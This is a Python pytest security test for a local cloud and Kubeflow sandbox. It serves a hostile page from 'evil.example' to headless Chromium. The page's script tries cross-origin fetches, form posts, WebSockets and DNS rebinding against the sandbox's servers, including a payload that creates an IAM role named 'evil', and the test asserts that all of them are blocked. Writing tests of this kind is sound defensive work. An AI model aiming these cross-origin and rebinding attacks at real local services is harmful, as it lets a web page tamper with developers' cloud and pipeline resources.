"""A web page of another origin, in a real browser, against every server of the sandbox."""

import http.server
import json
import os
import queue
import shutil
import subprocess
import threading
from contextlib import contextmanager

import boto3
import pytest

from tests.support import docker_stub
from tests.support.account import client
from tests.support.api import Api

pytestmark = pytest.mark.attack

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
REPORT_WITHIN_SECONDS = 120
FORM = "Action=CreateRole&RoleName=evil&AssumeRolePolicyDocument={}&Version=2010-05-08"

# Each try ends with "blocked", or with the name of what the page could do. An opaque response tells the page nothing.
PAGE = """<!doctype html><link rel="icon" href="data:,"><body><script>
const targets = TARGETS, results = []
const within = (promise) => Promise.race([promise, new Promise(done => setTimeout(() => done("blocked"), 5000))])
const load = (tag, url, name) => new Promise(done => {
  const made = document.createElement(tag)
  made.onload = () => done(name)
  made.onerror = () => done("blocked")
  made.src = url
  document.body.append(made)
})
const form = (url, body, type) => new Promise(done => {
  const frame = document.createElement("iframe"), made = document.createElement("form")
  frame.name = "frame" + Math.random()
  Object.assign(made, {action: url, method: "post", target: frame.name, enctype: type})
  const field = document.createElement("input")
  Object.assign(field, {name: body.split("=")[0] || "x", value: body})
  made.append(field)
  document.body.append(frame, made)
  frame.onload = () => { try { done(frame.contentDocument.body.textContent ? "read a frame" : "blocked") }
                         catch { done("blocked") } }
  made.submit()
})
const read = (url, options) => fetch(url, options)
  .then(async answer => answer.type === "opaque" ? "blocked" : "read: " + (await answer.text()).slice(0, 80))
  .catch(() => "blocked")
const socket = (url) => new Promise(done => {
  const made = new WebSocket(url.replace("http", "ws"))
  made.onopen = () => done("opened a WebSocket")
  made.onerror = made.onclose = () => done("blocked")
})
const tries = {
  "GET": url => read(url),
  "GET without CORS": url => read(url, {mode: "no-cors"}),
  "POST text/plain": (url, body) => read(url, {method: "POST", mode: "no-cors", body}),
  "POST form": (url, body) => read(url, {method: "POST", mode: "no-cors", body: new URLSearchParams(body)}),
  "POST multipart": (url, body) => {
    const data = new FormData()
    data.append("uploadfile", new Blob([body]), "evil.yaml")
    return read(url, {method: "POST", mode: "no-cors", body: data})
  },
  "POST JSON": (url, body) => read(url, {method: "POST", headers: {"Content-Type": "application/json"}, body}),
  "PUT": (url, body) => read(url, {method: "PUT", body}),
  "DELETE": url => read(url, {method: "DELETE"}),
  "form": (url, body) => form(url, body, "application/x-www-form-urlencoded"),
  "form text/plain": (url, body) => form(url, body, "text/plain"),
  "form multipart": (url, body) => form(url, body, "multipart/form-data"),
  "image": url => load("img", url, "loaded an image"),
  "script": url => load("script", url, "loaded a script"),
  "WebSocket": url => socket(url),
}
async function attack() {
  for (const [url, body] of targets) {
    const names = Object.keys(tries)
    const ends = await Promise.all(names.map(name => within(tries[name](url, body))))
    names.forEach((name, place) => results.push([url, name, ends[place]]))
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(results)})
}
attack()
</script>"""


@contextmanager
def evil_server(targets):
    """Serve the page, and yield its port and the queue of its reports."""
    reports: queue.Queue = queue.Queue()

    class Evil(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.answer(PAGE.replace("TARGETS", json.dumps(targets)).encode())

        def do_POST(self):
            reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.answer(b"")

        def answer(self, body):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port, reports
        server.shutdown()


def visit(url, profile, reports):
    """Open a page in Chromium, and return its report. All names of `.example` resolve to loopback."""
    options = ["--headless=new", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage", "--no-proxy-server"]
    options += ["--no-sandbox"] if os.geteuid() == 0 else []
    rules = "--host-resolver-rules=MAP *.example 127.0.0.1"
    command = [CHROMIUM, *options, rules, f"--user-data-dir={profile}", url]
    browser = subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=os.environ | {"HOME": str(profile)}
    )
    try:
        return reports.get(timeout=REPORT_WITHIN_SECONDS)
    finally:
        browser.terminate()
        browser.wait(timeout=30)


def state(sandbox, registry):
    """Return what the servers hold."""
    environment = sandbox.environment()
    keys = environment["AWS_ACCESS_KEY_ID"], environment["AWS_SECRET_ACCESS_KEY"]
    s3 = boto3.Session(*keys, region_name="us-east-1").client("s3", endpoint_url=environment["AWS_ENDPOINT_URL_S3"])
    buckets = [bucket["Name"] for bucket in s3.list_buckets()["Buckets"]]
    api = Api(environment["KF_PIPELINES_ENDPOINT"])
    return {
        "journal": (sandbox.directory / "aws-account" / "journal.jsonl").read_text(),
        "clusters": client(sandbox, "eks").list_clusters()["clusters"],
        "objects": {bucket: s3.list_objects_v2(Bucket=bucket).get("KeyCount") for bucket in buckets},
        "pipelines": [api.session.get(f"{api.endpoint}/apis/v2beta1/{kind}").json() for kind in ("pipelines", "runs")],
        "experiments": api.session.get(f"{api.endpoint}/apis/v2beta1/experiments").json(),
        "images": sorted(str(path) for path in registry.rglob("*")),
    }


@pytest.mark.slow
@pytest.mark.skipif(not CHROMIUM, reason="Chromium is not installed; to run it on Debian: apt-get install chromium")
def test_a_page_of_another_origin_changes_nothing_and_reads_nothing(sandbox, tmp_path):
    with docker_stub.engine() as address:
        os.environ["DOCKER_HOST"] = address
        sandbox.up()
    environment = sandbox.environment()
    secret = environment["KF_PIPELINES_ENDPOINT"].rpartition("/")[2]
    addresses = {server.name: record.address for server, record, _ in sandbox.status() if record}
    role, experiment = FORM, json.dumps({"display_name": "evil"})
    paths = [
        ("aws-account", "/", role),
        ("aws-account", f"/?{role}", ""),
        ("aws-account", "/moto-api/reset", ""),
        ("aws-account", "/moto-api/recorder/upload-recording", "{}"),
        ("aws-account", "/clusters", experiment),
        ("object-store", "/evil", "x"),
        ("object-store", "/evil/key", "x"),
        # The page knows the secret path here, so that the other checks are seen.
        ("pipelines-api", f"/{secret}/apis/v2beta1/experiments", experiment),
        ("pipelines-api", f"/{secret}/apis/v2beta1/pipelines/upload", "x"),
        ("pipelines-api", f"/{secret}/", ""),
        ("registry", "/v2/", ""),
        ("registry", "/v2/evil/blobs/uploads/", "x"),
    ]
    here = [(addresses[name] + path, body) for name, path, body in paths if name in addresses]
    named = [(url.replace("127.0.0.1", "rebound.example"), body) for url, body in here]
    images = sandbox.directory / "registry"
    before = state(sandbox, images)
    for origin in ("127.0.0.1", "evil.example"):
        with evil_server([*here, *named]) as (port, reports):
            report = visit(f"http://{origin}:{port}/", tmp_path / f"profile-{origin}", reports)
        assert len(report) == 14 * len([*here, *named]), "the page has made every try"
        assert [found for found in report if found[2] != "blocked"] == []
    assert state(sandbox, images) == before
